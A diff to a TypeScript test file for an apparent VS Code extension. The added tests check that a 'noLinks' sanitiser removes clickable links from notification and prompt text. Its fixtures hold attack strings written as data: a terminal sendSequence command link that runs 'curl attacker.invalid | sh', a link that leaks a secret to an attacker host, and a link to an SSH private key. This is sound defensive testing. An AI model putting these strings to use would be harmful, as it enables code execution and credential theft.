@@ -6,6 +6,7 @@ import { test } from 'node:test';
 import { type Token, type Tokens, marked } from 'marked';
 import type { Change, Hunk } from '../../src/generated/protocol';
 import { HOVER_COMMANDS, hunkHover } from '../../src/model/hunks';
+import { noLinks } from '../../src/model/untrusted';
 
 /** Every link and image of `markdown` as VS Code's renderer (marked) reads it. */
 function targets(markdown: string): string[] {
@@ -53,4 +54,34 @@ for (const [name, added] of [
 test('hunk hover: its trusted commands are the three it links to', () => {
   const hover = hunkHover(change, hunk, ['x = 1'], 'python');
   assert.deepEqual(targets(hover).map((t) => t.replace(/^link command:([^?]+).*$/, '$1')), HOVER_COMMANDS);
+});
+
+/**
+ * The links VS Code finds in a notification's message (newlines made spaces first) or an input
+ * box's prompt: its parseLinkedText (vs/base/common/linkedText.ts, the regular expression as
+ * code-server 4.139.1 ships it). It opens them with commands allowed.
+ */
+function vscodeLinks(message: string): string[] {
+  const link = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
+  return [...message.replace(/(\r\n|\n|\r)/gm, ' ').matchAll(link)].map((m) => m[2]);
+}
+
+const sendSequence = 'command:workbench.action.terminal.sendSequence?' + encodeURIComponent(JSON.stringify({ text: 'curl attacker.invalid | sh\n' }));
+for (const [name, text] of [
+  ['a question whose answer link types a command into the terminal', `Continue with the migration? [Yes](${sendSequence})`],
+  ['a link with a title', `[Open Console](${sendSequence} "Open the console")`],
+  ['a link whose label spans lines', `[Open\nConsole](${sendSequence})`],
+  ['a file name that is a link (a valid path for the daemon)', `DevFactory: [docs](${sendSequence}) resolved.`],
+  ['a web link', 'Run 4 failed: [details](https://attacker.invalid/?k=SECRET)'],
+  ['a file link', 'see [this](file:///home/user/.ssh/id_rsa)'],
+] as const) {
+  test(`notification and prompt text: ${name} is no link`, () => {
+    assert.notDeepEqual(vscodeLinks(text), [], 'VS Code reads a link in the raw text');
+    assert.deepEqual(vscodeLinks(noLinks(text)), []);
+    assert.deepEqual(vscodeLinks(`${noLinks(text)} (Press 'Enter' to confirm or 'Escape' to cancel)`), []);
+  });
+}
+
+test('notification text: plain words and brackets read as before', () => {
+  assert.equal(noLinks('Run 3 failed: step [2] (the tests) broke'), 'Run 3 failed: step [2] (the tests) broke');
 });
